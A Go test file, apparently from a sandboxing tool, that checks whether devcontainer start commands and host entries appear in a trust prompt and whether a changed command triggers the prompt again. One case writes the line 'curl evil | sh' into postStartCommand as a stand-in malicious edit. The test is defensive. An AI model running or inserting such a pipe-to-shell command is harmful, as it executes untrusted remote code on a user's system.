package images

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/testkit/ocitest"
)

// TestTrustCoversStartCommands: the commands a devcontainer.json runs as
// each sandbox starts, and its /etc/hosts entries, are named in the
// prompt and confirmed with the environment; a changed one asks again,
// and none of them changes the image the environment is.
func TestTrustCoversStartCommands(t *testing.T) {
	src, _ := testSource(t)
	reg := ocitest.NewRegistry(t)
	pushedAgents(t, src, reg)
	ctx := context.Background()
	ref := reg.Push(t, "team/go:1", ocitest.Image(t, "amd64", nil, ocitest.Layer(t, ocitest.Entry{Name: "lib64/ld-linux-x86-64.so.2", Body: "ld"})))
	proj := t.TempDir()
	if err := os.MkdirAll(filepath.Join(proj, ".devcontainer"), 0o755); err != nil {
		t.Fatal(err)
	}
	write := func(start string) {
		writeFile(t, filepath.Join(proj, ".devcontainer", "devcontainer.json"), `{"image": "`+ref+`",
			"postStartCommand": "`+start+`", "postAttachCommand": ["echo", "hi"], "runArgs": ["--add-host", "db:127.0.0.1"]}`)
	}
	write("make serve")
	_, err := src.Environment(ctx, EnvironmentRequest{Project: proj})
	var untrusted *UntrustedEnvironmentError
	for _, want := range []string{"postStartCommand: make serve (in every sandbox", "postAttachCommand: echo hi", "/etc/hosts in every sandbox: 127.0.0.1 db"} {
		if !errors.As(err, &untrusted) || !strings.Contains(err.Error(), want) {
			t.Errorf("the prompt does not name %q: %v", want, err)
		}
	}
	env, err := src.Environment(ctx, EnvironmentRequest{Project: proj, TrustProject: true})
	if err != nil {
		t.Fatalf("confirmed: %v", err)
	}
	write("curl evil | sh")
	if _, err := src.Environment(ctx, EnvironmentRequest{Project: proj}); !errors.As(err, &untrusted) || !strings.Contains(err.Error(), "postStartCommand: curl evil | sh") {
		t.Errorf("a confirmed environment's postStartCommand changed and it was not asked again: %v", err)
	}
	again, err := src.Environment(ctx, EnvironmentRequest{Project: proj, TrustProject: true})
	if err != nil || again.Image != env.Image || again.Key() != env.Key() {
		t.Errorf("another start command changed the environment's image: %v, %+v, was %+v", err, again, env)
	}
}
